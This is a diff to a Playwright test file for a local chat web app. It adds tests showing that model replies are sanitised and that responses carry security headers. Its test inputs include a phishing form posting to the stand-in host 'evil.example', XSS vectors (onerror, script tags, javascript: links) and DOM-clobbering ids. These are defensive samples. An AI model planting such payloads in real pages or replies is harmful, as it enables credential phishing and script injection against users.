@@ -3,6 +3,7 @@ Playwright, against the real server and model."""
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import shutil
@@ -14,7 +15,7 @@ from pathlib import Path
 
 import httpx
 import pytest
-from playwright.sync_api import BrowserContext, Page, sync_playwright
+from playwright.sync_api import BrowserContext, Page, Route, sync_playwright
 
 from tests.serverproc import ServerProcess
 
@@ -26,6 +27,11 @@ CHROMIUM_FLAGS = [
 ]
 # Screenshots of what a person would see, kept for a look after the run.
 SCREENSHOT_DIR = Path(os.environ.get("LLAMABIN_SCREENSHOTS", tempfile.gettempdir()))
+# A reply that plants a phishing form, whose textarea has the composer's id.
+HOSTILE_REPLY = (
+    'Please sign in again.\n\n<form action="https://evil.example/">'
+    '<textarea id="prompt">x</textarea><button>Sign in</button></form>'
+)
 
 
 @pytest.fixture(scope="module")
@@ -125,12 +131,16 @@ def test_markdown_is_rendered_and_sanitised(tmp_path: Path, server: ServerProces
             """() => {
                 const el = document.createElement("div");
                 renderMarkdown(el, "**bold** and `code`\\n\\n- one\\n- two\\n\\n"
-                    + "<img src=x onerror=alert(1)> <script>alert(2)</script> [link](javascript:alert(3))");
+                    + "<img src=x onerror=alert(1)> <script>alert(2)</script> [link](javascript:alert(3))"
+                    + "\\n\\n- [x] done\\n- [ ] to do\\n\\n<p id=send name=chat>shadow</p>");
                 return el.innerHTML;
             }"""
         )
         assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>one</li>" in html
         assert "onerror" not in html and "<script" not in html and "javascript:" not in html
+        # A task list keeps its boxes, as characters; nothing keeps an id or a name.
+        assert "\u2611 done" in html and "\u2610 to do" in html and "<input" not in html
+        assert "<p>shadow</p>" in html
 
 
 def test_the_page_and_its_files_come_from_the_package(server: ServerProcess) -> None:
@@ -139,3 +149,78 @@ def test_the_page_and_its_files_come_from_the_package(server: ServerProcess) -> 
     for path in ("/static/app.js", "/static/style.css", "/static/vendor/marked.umd.js", "/static/vendor/purify.min.js"):
         assert httpx.get(f"{server.url}{path}", timeout=10).status_code == 200, path
     assert not re.search(r"(https?:)?//", page.text)  # nothing fetched from elsewhere
+
+
+def sse_reply(text: str) -> str:
+    """`text` as /v1/chat/completions streams it: one chunk, then [DONE]."""
+    chunk = {
+        "id": "chatcmpl-canned", "object": "chat.completion.chunk", "created": 0, "model": "m",
+        "choices": [{"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}],
+    }
+    return f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n"
+
+
+def test_a_reply_cannot_plant_a_form_or_take_over_the_composer(browser: BrowserContext, server: ServerProcess) -> None:
+    page, _, errors = open_page(browser, server)
+    # The model "says" the hostile reply, then "Paris."; what the page sent is kept.
+    replies = [HOSTILE_REPLY, "Paris."]
+    sent: list[list[dict[str, str]]] = []
+
+    def answer(route: Route) -> None:
+        body = route.request.post_data_json
+        assert body is not None
+        sent.append(body["messages"])
+        route.fulfill(status=200, content_type="text/event-stream", body=sse_reply(replies[len(sent) - 1]))
+
+    page.route("**/v1/chat/completions", answer)
+    composer = page.locator("#composer textarea")
+    composer.fill("Hello!")
+    page.click("#send")
+    page.wait_for_selector(".message.assistant[data-done]")
+    reply = page.locator(".message.assistant .body").last
+    assert "Please sign in again." in reply.inner_text()
+    assert reply.locator("form, textarea, button, input").count() == 0
+    assert "evil.example" not in reply.inner_html()
+    assert page.locator("[id=prompt]").count() == 1  # only the composer's own
+
+    composer.fill("What is the capital of France?")
+    page.click("#send")
+    page.locator(".message.assistant[data-done]").nth(1).wait_for()
+    # Send posted what the user typed, not what the reply planted.
+    assert sent[1][-1] == {"role": "user", "content": "What is the capital of France?"}
+    assert composer.input_value() == ""
+    assert assistant_text(page) == "Paris."
+    assert not errors
+
+
+def test_every_response_carries_the_security_headers(server: ServerProcess) -> None:
+    def get(path: str) -> httpx.Response:
+        return httpx.get(f"{server.url}{path}", timeout=10)
+
+    responses = {
+        "/": get("/"),
+        "/static/index.html": get("/static/index.html"),
+        "/static/app.js": get("/static/app.js"),
+        "/v1/models": get("/v1/models"),
+        "unknown URL": get("/no/such/page"),
+        "unknown file": get("/static/no-such-file.js"),
+        "bad JSON": httpx.post(f"{server.url}/v1/chat/completions", content=b"{not json",
+                               headers={"Content-Type": "application/json"}, timeout=10),
+    }
+    assert {name: r.status_code for name, r in responses.items()} == {
+        "/": 200, "/static/index.html": 200, "/static/app.js": 200, "/v1/models": 200,
+        "unknown URL": 404, "unknown file": 404, "bad JSON": 400,
+    }
+    for name, r in responses.items():
+        assert r.headers.get("x-content-type-options") == "nosniff", name
+        assert r.headers.get("referrer-policy") == "no-referrer", name
+        policies = r.headers.get_list("content-security-policy")
+        assert len(policies) == 1, (name, policies)
+        assert "form-action 'none'" in policies[0] and "frame-ancestors 'none'" in policies[0], name
+
+    # A stream gets them too, and still arrives piece by piece.
+    body = {"messages": [{"role": "user", "content": "Count to ten."}], "stream": True, "max_tokens": 8}
+    with httpx.stream("POST", f"{server.url}/v1/chat/completions", json=body, timeout=120) as r:
+        assert r.headers.get("x-content-type-options") == "nosniff"
+        events = [line for line in r.iter_lines() if line.startswith("data: ")]
+    assert len(events) > 3 and events[-1] == "data: [DONE]"
